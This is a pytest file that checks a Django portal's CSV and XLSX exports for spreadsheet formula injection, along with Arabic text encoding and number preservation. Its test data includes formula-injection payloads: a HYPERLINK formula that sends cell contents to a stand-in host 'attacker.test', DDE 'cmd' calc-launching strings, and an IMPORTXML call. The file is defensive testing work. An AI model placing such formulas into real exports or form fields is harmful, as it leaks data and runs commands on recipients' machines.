"""Exports that are safe to open: applicant text a spreadsheet would run as a formula is
neutralised, CSV starts with a byte-order mark so Excel reads the Arabic, numbers stay numbers."""

import csv
import io
import itertools
import random

import pytest
from openpyxl import load_workbook

from forms.admin.viewsets import HelpRequestViewSet
from portal.core.spreadsheets import FORMULA_STARTS, neutralise
from tests.inbox.conftest import file_application, file_request, roles  # noqa: F401

pytestmark = pytest.mark.django_db

BODIES = [
    'HYPERLINK("http://attacker.test/?"&A1,"اضغط هنا")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(1+9)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://x.test/", B2), "//a")',
]


def payloads(seed: int = 12) -> list[str]:
    """Every formula start with every body, and random mixes of both."""
    rng = random.Random(seed)
    values = [start + body for start, body in itertools.product(FORMULA_STARTS, BODIES)]
    values += [
        "".join(rng.choices(FORMULA_STARTS, k=rng.randrange(1, 3))) + rng.choice(BODIES)
        for _ in range(10)
    ]
    return values


def exported_rows(client, url, export="csv"):
    response = client.get(url, {"export": export})
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def test_formula_cells_are_neutralised_and_the_csv_opens_as_utf8(client, roles):  # noqa: F811
    values = payloads()
    for value in values:
        file_request(full_name=value[:200], district=value[:80], mobile="+966551234567")
    file_request(full_name="منيرة صالح")
    client.force_login(roles["officer"])
    response, body = exported_rows(client, "/admin/inbox/help-requests/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    columns = HelpRequestViewSet.list_export
    data = rows[1:]
    name, district, mobile = (columns.index(f) for f in ("full_name", "district", "mobile"))
    assert len(data) == len(values) + 1
    for row in data:
        for cell in (row[name], row[district]):
            assert not cell.startswith(FORMULA_STARTS), cell
        assert row[mobile] == "+966551234567"  # a number, not a formula: kept as written
    assert {row[name] for row in data} == {"'" + value[:200] for value in values} | {"منيرة صالح"}


def test_xlsx_cells_from_applicants_are_text(client, roles):  # noqa: F811
    file_request(full_name="=1+1")
    client.force_login(roles["officer"])
    _response, body = exported_rows(client, "/admin/inbox/help-requests/", "xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=1+1"]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_volunteer_exports_are_neutralised_too(client, roles):  # noqa: F811
    file_application(status="accepted", full_name="@SUM(1+9)")
    client.force_login(roles["coordinator"])
    _response, body = exported_rows(client, "/admin/inbox/volunteers/?status=accepted")
    assert "'@SUM(1+9)" in body.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("+966551234567", "+966551234567"),
        ("-250.5", "-250.5"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("عادي", "عادي"),
        (12, 12),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected
